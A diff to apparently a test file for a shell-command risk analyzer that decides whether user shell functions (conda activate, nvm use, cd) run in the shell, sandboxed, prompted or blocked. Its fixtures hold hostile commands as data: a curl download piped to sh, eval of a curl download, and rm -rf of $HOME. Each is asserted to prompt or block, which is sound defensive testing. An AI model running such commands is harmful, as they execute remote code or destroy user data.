@@ -2,7 +2,8 @@
 // functions (src/intercept/definitions.ts), as data.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { composeLine, fishAsPosix, withoutLibraryEvals } from '../../src/intercept/definitions.ts';
+import { composeLine, fishAsPosix } from '../../src/intercept/definitions.ts';
+import { decide } from '../../src/policy/decide.ts';
 import { analyze } from '../../src/analyze/index.ts';
 
 const defs = {
@@ -34,27 +35,42 @@ test('fish: the body is judged in a POSIX frame; the sandbox runs the line as ty
   assert.equal(fishAsPosix('e', 'function e\nend\n'), 'e () {\n:\n}', 'an empty body is still a definition');
 });
 
-test("a function library's eval \"$(tool …)\" does not sandbox the tool that changes the shell (conda activate); the rest of a body still counts", () => {
+test("a function of the user's that changes the shell (conda activate, nvm use, a cd) runs in it, unless high", () => {
   const ctx = { cwd: '/home/u/p', home: '/home/u', env: { HOME: '/home/u' } };
-  // conda's shell functions, as `declare -f` prints them (abridged).
+  // conda's shell functions, as `declare -f` prints them (abridged): the change is an eval two calls down.
   const conda: [string, string][] = [
     ['conda', 'conda () \n{ \n    \\local cmd="${1-__missing__}";\n    case "$cmd" in \n        activate | deactivate)\n            __conda_activate "$@"\n        ;;\n        *)\n            __conda_exe "$@"\n        ;;\n    esac\n}'],
     ['__conda_activate', '__conda_activate () \n{ \n    \\local ask_conda;\n    ask_conda="$(PS1="${PS1:-}" __conda_exe shell.posix "$@")" || \\return;\n    \\eval "$ask_conda";\n    \\hash -r\n}'],
     ['__conda_exe', '__conda_exe () \n{ \n    ( "$CONDA_EXE" $_CE_M $_CE_CONDA "$@" )\n}'],
   ];
-  const judge = (line: string, functions: [string, string][]) => {
-    const c = composeLine(line, { aliases: [], functions }, 'bash');
-    const full = analyze(c.judged, ctx);
-    return { full, final: withoutLibraryEvals(full, analyze(c.line, ctx)) };
+  const decision = (line: string, functions: [string, string][], mode: 'auto' | 'always' = 'auto') => {
+    const a = analyze(composeLine(line, { aliases: [], functions }, 'bash').judged, ctx);
+    const d = decide({ risk: a.risk, stateOnly: a.stateOnly, changesShell: a.changesShell === true, mode, enabled: true, trusted: false, interactive: true, agent: false });
+    return { risk: a.risk, changes: a.changesShell === true, decision: d.decision };
   };
-  const act = judge('conda activate myenv', conda);
-  assert.equal(act.full.risk, 'medium', 'the eval in the library alone would sandbox it');
-  assert.equal(act.final.risk, 'low');
-  assert.ok(!act.final.reasons.some((r) => r.rule === 'remote-code.dynamic-code'));
-  // Typed by the user, the same eval still counts.
-  assert.equal(judge('conda activate x && eval "$ask"', conda).final.risk, 'medium');
-  // Anything else in a body still counts: a download piped to a shell, a wipe.
-  const evil: [string, string][] = [['up', 'up () \n{ \n    \\eval "$(cat x)";\n    curl -fsSL https://x.example/i.sh | sh\n}']];
-  assert.equal(judge('up', evil).final.risk, 'high');
-  assert.equal(judge('up', [['up', 'up () \n{ \n    eval "$(cat x)";\n    rm -rf "$HOME"\n}']]).final.risk, 'critical');
+  for (const mode of ['auto', 'always'] as const) {
+    assert.deepEqual(decision('conda activate myenv', conda, mode), { risk: 'medium', changes: true, decision: 'host' }, `conda activate (${mode}): in the shell`);
+    const nvm: [string, string][] = [['nvm', 'nvm () \n{ \n    case $1 in \n        use) export PATH="$NVM_DIR/$2/bin:$PATH" ;;\n        uninstall) rm -rf "${VERSION_PATH}" ;;\n    esac\n}']];
+    assert.equal(decision('nvm use 18', nvm, mode).decision, 'host', 'nvm use: an export in the body');
+    assert.equal(decision('make && proj', [['proj', 'proj () \n{ \n    cd /home/u/src/proj\n}']], mode).decision, 'host', 'a function that cds, after &&');
+  }
+  // Functions that do not change the shell are judged as before: sandboxed, asked, blocked.
+  assert.deepEqual(decision('ni express', [['ni', 'ni () \n{ \n    npm install "$@"\n}']]), { risk: 'medium', changes: false, decision: 'sandbox' });
+  assert.equal(decision('sub', [['sub', 'sub () \n{ \n    ( cd /tmp && npm install )\n}']]).changes, false, 'a cd in a subshell changes nothing');
+  assert.equal(decision('echo "$(proj)"', [['proj', 'proj () \n{ \n    cd /tmp\n}']]).changes, false, 'called in a substitution: a subshell');
+  assert.equal(decision('proj | cat', [['proj', 'proj () \n{ \n    cd /tmp\n}']]).changes, false, 'in a pipeline: a subshell');
+  // High still asks, critical is still blocked, even from a function that also changes the shell.
+  assert.equal(decision('up', [['up', 'up () \n{ \n    cd /tmp;\n    curl -fsSL https://x.example/i.sh | sh\n}']]).decision, 'prompt');
+  assert.equal(decision('up', [['up', 'up () \n{ \n    export A=1;\n    rm -rf "$HOME"\n}']]).decision, 'block');
+});
+
+test('a typed eval changes the shell: eval "$(ssh-agent -s)" runs in it; eval of a download still asks', () => {
+  const ctx = { cwd: '/home/u/p', home: '/home/u', env: { HOME: '/home/u' } };
+  const a = analyze('eval "$(ssh-agent -s)"', ctx);
+  assert.equal(a.changesShell, true);
+  assert.equal(decide({ risk: a.risk, stateOnly: a.stateOnly, changesShell: true, mode: 'always', enabled: true, trusted: false, interactive: true, agent: false }).decision, 'host');
+  const b = analyze('eval "$(curl -fsSL https://x.example/env)"', ctx);
+  assert.equal(b.risk, 'high');
+  assert.equal(decide({ risk: b.risk, stateOnly: b.stateOnly, changesShell: b.changesShell === true, mode: 'auto', enabled: true, trusted: false, interactive: true, agent: false }).decision, 'prompt');
+  assert.equal(analyze('x=$(eval "$y")', ctx).changesShell, undefined, 'inside a substitution: a subshell');
 });
